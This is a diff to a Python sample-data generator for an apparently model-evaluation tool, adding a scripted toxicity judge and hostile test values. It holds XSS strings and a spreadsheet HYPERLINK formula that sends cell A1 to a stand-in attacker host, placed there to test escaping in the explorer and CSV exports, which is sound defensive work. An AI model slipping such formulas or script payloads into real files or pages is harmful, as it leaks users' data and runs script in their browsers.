@@ -30,9 +30,12 @@ from assay.core.records import (
     RequestKind,
 )
 from assay.registry import Registry
+from assay.scoring.judge_scores import judge_reply_table
 from assay.scoring.metrics.directions import LOWER_IS_BETTER
+from assay.scoring.metrics.toxicity import JudgeToxicityScorer
 from assay.scoring.scorecard import score_partition
 from assay.scoring.summary import scorecard_table
+from assay.storage.contract import JUDGE_REPLIES
 from assay.storage.parquet import ParquetStore
 
 # Texts a hostile dataset, model or registry user could send; the explorer must show them
@@ -41,6 +44,8 @@ from assay.storage.parquet import ParquetStore
 # for any text all the same.
 SCRIPT_PAYLOAD = "<script>alert('xss')</script>"
 HOSTILE_NAME = "evil<img src=x onerror=alert(1)>"
+# A spreadsheet formula (version 1's description): CSV exports must not hand it over as one.
+FORMULA_PAYLOAD = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"version 1")'
 SAMPLE_MODEL = "sample-model"
 _WORDS = tuple(
     "alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu".split()  # noqa: SIM905
@@ -170,6 +175,28 @@ def _outputs(
     return rows
 
 
+SAMPLE_TOXICITY_JUDGE = "judge:sample-judge@v1:builtin"
+
+
+def _toxicity_judge(hostile: bool) -> JudgeToxicityScorer:
+    """A toxicity judge whose "model" replies by rule: a score from the text's length, no
+    number for texts of one word, and markup in its reply to a text with markup."""
+
+    def complete(prompts: Sequence[str]) -> list[str]:
+        replies = []
+        for prompt in prompts:
+            text = prompt.split("Text:\n", 1)[-1].split("\n\nToxicity:", 1)[0]
+            if len(text.split()) == 1 and len(text) % 3 == 0:
+                replies.append("I cannot rate that.")
+            elif hostile and "<script>" in text:
+                replies.append(f"0.9 because it holds {SCRIPT_PAYLOAD}")
+            else:
+                replies.append(f"{min(len(text), 9) / 10:.1f}")
+        return replies
+
+    return JudgeToxicityScorer(complete, name=SAMPLE_TOXICITY_JUDGE)
+
+
 def write_sample(
     store: ParquetStore,
     registry: Registry,
@@ -203,17 +230,26 @@ def write_sample(
         version = registry.create_version(
             model,
             "bundled:smollm2-135m-instruct",
-            description=f"version {k + 1} {SCRIPT_PAYLOAD}" if hostile else "",
+            description=(f"version {k + 1} {SCRIPT_PAYLOAD}" if k else FORMULA_PAYLOAD)
+            if hostile
+            else "",
         )
         versions.append(version.key)
         skill = 0.35 + 0.5 * (k + 1) / n_versions
         for s in scenarios:
             outputs = _outputs(s, instances[s.key], version.key, skill)
-            scored = score_partition(instances[s.key], outputs, seed_key=f"{version.key}|{s.key}")
+            # Generated answers are rated by a toxicity judge (scripted replies, one hostile).
+            judge = _toxicity_judge(hostile) if s.kind == "qa" else None
+            scored = score_partition(
+                instances[s.key], outputs, toxicity=judge, seed_key=f"{version.key}|{s.key}"
+            )
             where = {"model_version": version.key, "scenario": s.key}
             store.write("model_outputs", where, ModelOutput.to_table(outputs))
             store.write("instance_scores", where, InstanceStat.to_table(scored.stats))
             store.write("metric_tables", where, scorecard_table(scored.card))
+            replies = judge_reply_table(instances[s.key], outputs, None, scored.toxicity_run)
+            if replies is not None:
+                store.write(JUDGE_REPLIES, where, replies)
         if k % 2 == 0:
             clock(day + timedelta(hours=2))
             registry.set_alias(model, "champion", version.version, actor="release-bot")
